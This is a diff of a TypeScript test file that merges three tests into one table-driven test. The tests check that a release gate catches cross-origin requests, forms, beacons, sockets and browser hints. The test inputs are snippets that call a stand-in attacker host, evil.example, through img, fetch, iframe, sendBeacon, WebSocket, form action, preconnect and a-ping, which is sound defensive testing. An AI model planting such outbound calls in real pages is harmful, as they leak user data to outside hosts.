@@ -94,32 +94,32 @@ it('the gate refuses a release that hides its replacements from the probe', asyn
 const faultsOf = async (code: string) =>
   ((await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>).browser;
 
-it('the gate refuses requests to another origin', async () => {
-  const found = await faultsOf(`
-    new Image().src = 'https://evil.example/a';
+it.each([
+  [
+    'requests',
+    `new Image().src = 'https://evil.example/a';
     fetch('https://evil.example/b').catch(() => {});
-    node.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/c' }));`);
-  for (const directive of ['img-src', 'connect-src', 'frame-src'])
-    expect(found).toContain(`policy: ${directive} https://evil.example`);
-});
-
-it('the gate refuses forms, sockets and beacons to another origin', async () => {
-  const found = await faultsOf(`
-    navigator.sendBeacon('https://evil.example/d', 'x');
+    node.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/c' }));`,
+    ['img-src', 'connect-src', 'frame-src'].map((directive) => `policy: ${directive} https://evil.example`),
+  ],
+  [
+    'forms, sockets and beacons',
+    `navigator.sendBeacon('https://evil.example/d', 'x');
     try { new WebSocket('wss://evil.example/e'); } catch {}
     const form = node.appendChild(document.createElement('form'));
     form.action = 'https://evil.example/f';
-    form.submit();`);
-  for (const what of ['connect-src https://evil', 'connect-src wss://evil', 'form-action https://evil'])
-    expect(found).toContain(`policy: ${what}`);
-});
-
-it('the gate refuses hints to the browser about another origin, which no policy blocks', async () => {
-  const found = await faultsOf(`
-    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://evil.example' }));
-    node.append(Object.assign(document.createElement('a'), { href: '/x', ping: 'https://evil.example/g', textContent: 'a' }));`);
-  expect(found).toContain('names another origin: <link rel="preconnect">');
-  expect(found).toContain('names another origin: <a ping>');
+    form.submit();`,
+    ['connect-src https://evil', 'connect-src wss://evil', 'form-action https://evil'].map((what) => `policy: ${what}`),
+  ],
+  [
+    'hints to the browser, which no policy blocks,',
+    `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://evil.example' }));
+    node.append(Object.assign(document.createElement('a'), { href: '/x', ping: 'https://evil.example/g', textContent: 'a' }));`,
+    ['names another origin: <link rel="preconnect">', 'names another origin: <a ping>'],
+  ],
+])('the gate refuses %s to another origin', async (_, code, expected) => {
+  const found = await faultsOf(code);
+  for (const fault of expected) expect(found).toContain(fault);
 });
 
 it('the gate refuses navigations and windows to another origin, which no policy blocks', async () => {
